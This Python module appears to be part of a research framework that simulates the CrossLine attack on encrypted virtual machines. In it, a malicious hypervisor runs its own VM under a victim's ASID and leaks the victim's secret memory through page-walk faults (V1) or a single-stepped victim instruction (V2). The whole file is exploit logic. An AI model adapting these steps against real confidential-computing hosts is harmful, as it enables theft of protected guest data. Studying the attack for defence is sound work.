"""The hypervisor runs a VM of its own with a victim's ASID (rows 20, 21; CrossLine, Li et al., CCS 2021).

A core takes the key from the ASID in the control block. The attacker's nested tables lead nowhere but where he
wants, so that his VM exits at its first step. V1 gives it the frame of a secret for a page table: the walk
decrypts a word, and if that looks like an entry, the address of the fault is its frame. V2 lets it run an
instruction of the victim's with registers of the attacker's choice, and sees in them what it loaded.
"""

from __future__ import annotations

from collections.abc import Generator

from node.operations import (
    Answer,
    Fault,
    HostRead,
    HostWrite,
    HypervisorOperation,
    NestedFrames,
    NestedMap,
    VmcbWrite,
    VmKick,
    VmPreempt,
    VmRun,
)
from node.vmsa import VMSA_BYTES, VMSA_FIELDS, write_field
from workloads.attacks.claims import WorkedOut
from workloads.attacks.nested_remap import smash
from workloads.attacks.single_step import Step
from workloads.attacks.target import LET_IT_RUN, WRITE_BACK, Attack, AttackBatch, Target
from workloads.attacks.vault import CONTENT_BYTES, ENTRY_FLAGS, GADGET_OFFSET, PAGE_BYTES, ROUND_RIP

VM = "attacker"
_TABLE = 1 << 40
"""Where the attacker's own tables begin, by guest-physical address."""
_WORD_BYTES, _TOP_SHIFT = 8, 39
_LONG_MODE = {"CR0": 1 << 31 | 1 << 16 | 1, "CR4": 1 << 5, "EFER": 1 << 12 | 1 << 10 | 1 << 8}
_Words = Generator[AttackBatch, tuple[Answer, ...], dict[int, int]]


def load_entries(target: Target) -> Attack:
    """V1: have page walks load words of the secret, by registers of the attacker's, or else by those of the victim."""
    yield LET_IT_RUN
    yield (VmKick(target.victim.vm, 0), VmPreempt(target.victim.vm, 0))
    yield WRITE_BACK
    yield smash(target.victim.secret)
    yield _frames_for_tables(target)
    own = target.victim.registers_in_the_clear
    words = yield from (_by_own_registers(target) if own else _by_the_victims(target))
    number, octets = 0, b""
    while number in words:
        octets += words[number].to_bytes(_WORD_BYTES, "little")
        number += 1
    yield (WorkedOut(octets),)


def run_an_instruction(target: Target) -> Attack:
    """V2: load the secret by an instruction of the victim's, four bytes at a time, with paging off."""
    victim = target.victim
    area, gadget, aside = target.spare[0], victim.code.gpa + GADGET_OFFSET, VMSA_FIELDS["RAX"].offset
    yield LET_IT_RUN
    yield WRITE_BACK
    yield smash(victim.secret, victim.code)
    yield _frames_for_tables(target)
    yield (_map(victim.code.gpa, victim.code.spa), _map(victim.secret.gpa, victim.secret.spa))
    for at in range(0, CONTENT_BYTES, 4):
        yield _with_registers(area, {"CR0": 1, "RIP": gadget, "RBX": victim.secret.gpa + at})
        yield _enter(target, area)
        yield (Step(VM),)
        yield (HostRead(area + aside, 4),)


def _by_own_registers(target: Target) -> _Words:
    """Every word: its number in the page is a part of the address that the attacker's RIP says."""
    area, words = target.spare[0], {}
    yield (_map(_TABLE, target.victim.secret.spa),)
    for number in range(CONTENT_BYTES // _WORD_BYTES):
        yield _with_registers(area, {**_LONG_MODE, "CR3": _TABLE, "RIP": number << _TOP_SHIFT})
        yield _enter(target, area)
        (exit_,) = yield (Step(VM),)
        if isinstance(exit_, Fault) and exit_.address // PAGE_BYTES != _TABLE // PAGE_BYTES:
            words[number] = _entry(exit_)
    return words


def _by_the_victims(target: Target) -> _Words:
    """The words that a walk from the victim's RIP asks for, where each table is the secret's frame once more.

    A first fault tells where the victim has its tables, each other one what word was met for the first time. Where
    it rests is known from its binary.
    """
    words: dict[int, int] = {}
    yield _enter(target, target.victim.save_area)
    (exit_,) = yield (Step(VM),)
    mapped: set[int] = set()
    for number in dict.fromkeys(ROUND_RIP >> shift & 511 for shift in (39, 30, 21, 12)):
        if not isinstance(exit_, Fault) or exit_.address // PAGE_BYTES in mapped:
            break
        mapped.add(exit_.address // PAGE_BYTES)
        yield (_map(exit_.address // PAGE_BYTES * PAGE_BYTES, target.victim.secret.spa),)
        yield _enter(target, target.victim.save_area)
        (exit_,) = yield (Step(VM),)
        if isinstance(exit_, Fault) and exit_.address // PAGE_BYTES not in mapped:
            words[number] = _entry(exit_)
    return words


def _entry(exit_: Fault) -> int:
    """The word whose frame a fault tells. It was present and no large page; entries in use have the same flags."""
    return exit_.address // PAGE_BYTES * PAGE_BYTES | ENTRY_FLAGS


def _enter(target: Target, area: int) -> AttackBatch:
    victim = target.victim
    return VmcbWrite(VM, 0, victim.asid, victim.generation, area), VmRun(VM, 0)


def _frames_for_tables(target: Target) -> tuple[HypervisorOperation, ...]:
    """All but the first frame, which is for a save area."""
    return tuple(NestedFrames(VM, spa, PAGE_BYTES) for spa in target.spare[1:])


def _map(gpa: int, spa: int) -> NestedMap:
    return NestedMap(VM, gpa, spa, PAGE_BYTES)


def _with_registers(area: int, values: dict[str, int]) -> tuple[HypervisorOperation, ...]:
    """A save area in the clear: what it holds under a key is for VMRUN to find."""
    page = bytearray(VMSA_BYTES)
    for name, value in {**values, "RFLAGS": 2}.items():
        write_field(page, name, value)
    return (HostWrite(area, bytes(page)),)
